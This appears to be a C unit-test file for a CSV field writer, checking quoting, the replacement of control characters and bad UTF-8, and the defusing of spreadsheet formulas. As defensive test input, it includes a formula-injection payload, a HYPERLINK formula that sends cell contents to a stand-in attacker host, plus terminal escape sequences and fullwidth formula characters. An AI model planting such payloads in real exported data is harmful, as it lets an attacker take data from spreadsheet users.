/* SPDX-License-Identifier: Apache-2.0
 *
 * Tests of ctl/csv: one field, as programs and spreadsheets read it.
 */
#include "ctl/csv.h"

#include <stdlib.h>

#include "check.h"

#include "base/banned.h"

extern const struct check_case csv_cases[];

/* A text, and the field that it becomes. */
struct field {
    struct gh_text text;
    struct gh_text want;
};

static void
check_fields(const struct field *fields, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        char *at = NULL;
        size_t len = 0;
        FILE *stream = open_memstream(&at, &len);

        check(stream != NULL);
        csv_write(stream, fields[i].text);
        check_number(0, fclose(stream));
        check_text(fields[i].want, ((struct gh_text){.at = at, .len = len}));
        free(at);
    }
}

static void
a_plain_text_stands_as_it_is(void)
{
    static const struct field fields[] = {
        {GH_TEXT_INIT(""), GH_TEXT_INIT("")},
        {{NULL, 0}, GH_TEXT_INIT("")},
        {GH_TEXT_INIT("alice"), GH_TEXT_INIT("alice")},
        {GH_TEXT_INIT("a 'b' c=d+e-f@g"), GH_TEXT_INIT("a 'b' c=d+e-f@g")},
        {GH_TEXT_INIT("\xc3\x9cn\xc3\xafq \xf0\x9f\xa6\x8a"),
         GH_TEXT_INIT("\xc3\x9cn\xc3\xafq \xf0\x9f\xa6\x8a")},
        {GH_TEXT_INIT("2026-12-24 08:00:00+01"),
         GH_TEXT_INIT("2026-12-24 08:00:00+01")},
    };

    check_fields(fields, GH_COUNT(fields));
}

static void
what_parts_fields_is_in_quotes(void)
{
    static const struct field fields[] = {
        {GH_TEXT_INIT("a,b"), GH_TEXT_INIT("\"a,b\"")},
        {GH_TEXT_INIT("a;=b"), GH_TEXT_INIT("\"a;=b\"")},
        {GH_TEXT_INIT("\""), GH_TEXT_INIT("\"\"\"\"")},
        {GH_TEXT_INIT("a\",\"=b"), GH_TEXT_INIT("\"a\"\",\"\"=b\"")},
        {GH_TEXT_INIT(" a"), GH_TEXT_INIT("\" a\"")},
        {GH_TEXT_INIT("a "), GH_TEXT_INIT("\"a \"")},
        {GH_TEXT_INIT("{\"rows\": 1}"), GH_TEXT_INIT("\"{\"\"rows\"\": 1}\"")},
    };

    check_fields(fields, GH_COUNT(fields));
}

static void
control_characters_and_bad_utf8_are_question_marks(void)
{
    static const struct field fields[] = {
        {GH_TEXT_INIT("a\r\nb"), GH_TEXT_INIT("a??b")},
        {GH_TEXT_INIT("\0\t\x1b[31mred\x7f"), GH_TEXT_INIT("???[31mred?")},
        {GH_TEXT_INIT("\xc2\x9b"
                      "31m"),
         GH_TEXT_INIT("?31m")},
        {GH_TEXT_INIT("\xff\xc3"), GH_TEXT_INIT("??")},
        {GH_TEXT_INIT("\t=1"), GH_TEXT_INIT("?=1")},
        {GH_TEXT_INIT("a\n\""), GH_TEXT_INIT("\"a?\"\"\"")},
    };

    check_fields(fields, GH_COUNT(fields));
}

static void
no_spreadsheet_calculates_a_text(void)
{
    static const struct field fields[] = {
        {GH_TEXT_INIT("=1+1"), GH_TEXT_INIT("\"'=1+1\"")},
        {GH_TEXT_INIT("+1"), GH_TEXT_INIT("\"'+1\"")},
        {GH_TEXT_INIT("-1"), GH_TEXT_INIT("\"'-1\"")},
        {GH_TEXT_INIT("@SUM(A1)"), GH_TEXT_INIT("\"'@SUM(A1)\"")},
        {GH_TEXT_INIT("  =1"), GH_TEXT_INIT("\"'  =1\"")},
        {GH_TEXT_INIT("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"),
         GH_TEXT_INIT("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,"
                      "\"\"x\"\")\"")},
        {GH_TEXT_INIT("\xef\xbc\x9d"
                      "1"),
         GH_TEXT_INIT("\"'\xef\xbc\x9d"
                      "1\"")},
        {GH_TEXT_INIT("\xef\xbc\x8b"), GH_TEXT_INIT("\"'\xef\xbc\x8b\"")},
        {GH_TEXT_INIT("\xef\xbc\x8d"), GH_TEXT_INIT("\"'\xef\xbc\x8d\"")},
        {GH_TEXT_INIT("\xef\xbc\xa0"), GH_TEXT_INIT("\"'\xef\xbc\xa0\"")},
    };

    check_fields(fields, GH_COUNT(fields));
}

const struct check_case csv_cases[] = {
    CHECK_CASE(a_plain_text_stands_as_it_is),
    CHECK_CASE(what_parts_fields_is_in_quotes),
    CHECK_CASE(control_characters_and_bad_utf8_are_question_marks),
    CHECK_CASE(no_spreadsheet_calculates_a_text),
    {NULL, NULL},
};
